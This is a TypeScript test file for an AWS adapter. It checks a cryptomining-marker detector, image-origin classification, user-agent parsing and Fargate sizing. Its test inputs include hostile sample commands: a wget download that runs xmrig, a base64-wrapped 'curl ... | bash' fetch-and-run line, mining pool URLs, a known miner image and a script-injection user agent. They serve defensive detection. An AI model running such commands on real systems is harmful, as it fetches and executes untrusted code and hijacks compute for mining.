import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { imageFromOf, strangestImage } from '../../../../src/adapters/aws/translate/images.ts';
import { markersIn } from '../../../../src/adapters/aws/translate/markers.ts';
import { programOf } from '../../../../src/adapters/aws/translate/program.ts';
import { fargateShape, vcpusOf } from '../../../../src/adapters/aws/translate/shapes.ts';
import { account } from './records.ts';

describe('markers of mining', () => {
  const monero = `4${'A'.repeat(94)}`;
  const found: [string, string, string][] = [
    ['a miner', '#!/bin/sh\nwget https://x.example/a/xmrig-6.21.tar.gz && ./xmrig', 'miner xmrig'],
    ['a miner in other letters', './SRBMiner-MULTI --disable-gpu', 'miner srbminer-multi'],
    ['an algorithm', './app --algo randomx', 'miner randomx'],
    ['a pool by its protocol', 'run -o stratum+ssl://203.0.113.9:443', 'pool stratum+ssl://203.0.113.9:443'],
    ['a pool by its host', 'curl pool.supportxmr.com', 'pool pool.supportxmr.com'],
    ['a wallet by its shape', `worker ${monero}`, `wallet ${monero.toLowerCase().slice(0, 60)}`],
    [
      'a wallet by its place',
      'worker --user 0x00000000000000000000000000000000deadbeef',
      'wallet 0x00000000000000000000000000000000deadbeef',
    ],
    ['a known image', 'docker run -d yenik65958/secret:user', 'image yenik65958/secret'],
    ['what was wrapped once', Buffer.from('#!/bin/bash\ncurl -sL x.example/s | bash\n./xmrig -o a:1').toString('base64'), 'miner xmrig'],
  ];
  for (const [what, text, marker] of found) {
    it(`finds ${what}`, () => {
      expect(markersIn(text).map(({ kind, word }) => `${kind} ${word}`)).toContain(marker);
    });
  }

  it('finds none in ordinary set-up, long ids and ordinary flags', () => {
    const ordinary = [
      '#!/bin/bash\nyum update -y && systemctl start nginx',
      'python train.py --user ada --address 10.0.0.1 --coin-toss',
      'aws s3 cp s3://bucket/0123456789abcdef0123456789abcdef01234567 /tmp',
      'npm run determine && ./claims --random-x',
      Buffer.from('#!/bin/bash\necho hello, world, this is an ordinary script').toString('base64'),
    ];

    expect(ordinary.flatMap(markersIn)).toEqual([]);
    expect(markersIn(undefined)).toEqual([]);
  });

  it('keeps words short, few and once, and takes any text in good time', () => {
    const many = Array.from({ length: 500 }, (_, n) => `stratum+tcp://pool-${n}.example.com:3333`).join(' ');

    expect(markersIn(many).length).toBe(20);
    expect(markersIn('xmrig XMRIG xmrig')).toEqual([{ kind: 'miner', word: 'xmrig' }]);
    fc.assert(
      fc.property(fc.string({ maxLength: 2_000 }), (text) => {
        for (const { word } of markersIn(text)) expect(word.length).toBeLessThanOrEqual(60);
      }),
      { seed: 1, numRuns: 300 },
    );
    expect(markersIn('a.'.repeat(400_000))).toEqual([]);
    expect(markersIn('4'.repeat(400_000))).toEqual([]);
  });
});

describe('where an image comes from', () => {
  const images: [string, string][] = [
    [`${account}.dkr.ecr.eu-west-1.amazonaws.com/app:1`, 'own'],
    ['210987654321.dkr.ecr.eu-west-1.amazonaws.com/app:1', 'unknown'],
    ['763104351884.dkr.ecr.us-east-1.amazonaws.com/pytorch-training:2', 'provider'],
    ['public.ecr.aws/amazonlinux/amazonlinux:2', 'provider'],
    ['public.ecr.aws/x1y2z3/app', 'public'],
    ['nginx', 'public'],
    ['somebody/worker:latest', 'public'],
    ['docker.io/library/nginx', 'public'],
    ['ghcr.io/somebody/app@sha256:00', 'public'],
    ['registry.example.com:5000/app', 'unknown'],
    ['aws/codebuild/standard:7.0', 'provider'],
  ];
  for (const [image, from] of images) {
    it(`${image} is ${from}`, () => {
      expect(imageFromOf(image, account)).toBe(from);
    });
  }

  it('is that of the strangest of several', () => {
    expect(strangestImage([`${account}.dkr.ecr.us-east-1.amazonaws.com/a`, 'somebody/b'], account)).toEqual({
      image: 'somebody/b',
      imageFrom: 'public',
    });
    expect(strangestImage([], account)).toBeUndefined();
  });
});

describe('the program that called', () => {
  const agents: [string, string][] = [
    ['aws-cli/2.15.0 md/Botocore#2.0 exec-env/CloudShell', 'aws-cli'],
    ['[aws-cli/1.27.74 Python/3.7 Botocore/1.29.74]', 'aws-cli'],
    ['APN/1.0 HashiCorp/1.0 Terraform/1.9.2 (+https://www.terraform.io) terraform-provider-aws/5.60 aws-sdk-go-v2/1.30', 'terraform'],
    ['pulumi/3.0 aws-sdk-go-v2/1.30', 'pulumi'],
    ['cloudformation.amazonaws.com', 'cloudformation'],
    ['autoscaling.amazonaws.com', 'aws-service'],
    ['console.amazonaws.com', 'console'],
    ['Mozilla/5.0 (X11; Linux x86_64)', 'console'],
    ['AWS Internal', 'aws-internal'],
    ['Boto3/1.34.145 md/Botocore#1.34.145 ua/2.0', 'boto3'],
    ['aws-sdk-go-v2/1.30.3 os/linux', 'aws-sdk-go'],
    ['[S3Console/0.4, aws-internal/3]', 'console'],
    ['TruffleHog', 'trufflehog'],
    ['"><script>', 'script'],
    ['...', 'unknown'],
  ];
  for (const [userAgent, program] of agents) {
    it(`${userAgent} is ${program}`, () => {
      expect(programOf({ userAgent })).toBe(program);
    });
  }

  it('is the console where the session says so, and nothing where nothing is told', () => {
    expect(programOf({ userAgent: 'aws-sdk-java/2', sessionCredentialFromConsole: 'true' })).toBe('console');
    expect(programOf({})).toBeUndefined();
  });
});

describe('sizes of containers', () => {
  it('are read with and without their unit', () => {
    expect(vcpusOf('16384')).toBe(16);
    expect(vcpusOf('0.25 vCPU')).toBe(0.25);
    expect(vcpusOf('many')).toBeUndefined();
    expect(fargateShape('16384', 32768)).toEqual({ type: 'Fargate 16 vCPU 32 GB', family: 'Fargate', vcpus: 16 });
    expect(fargateShape(undefined)).toBeUndefined();
  });
});
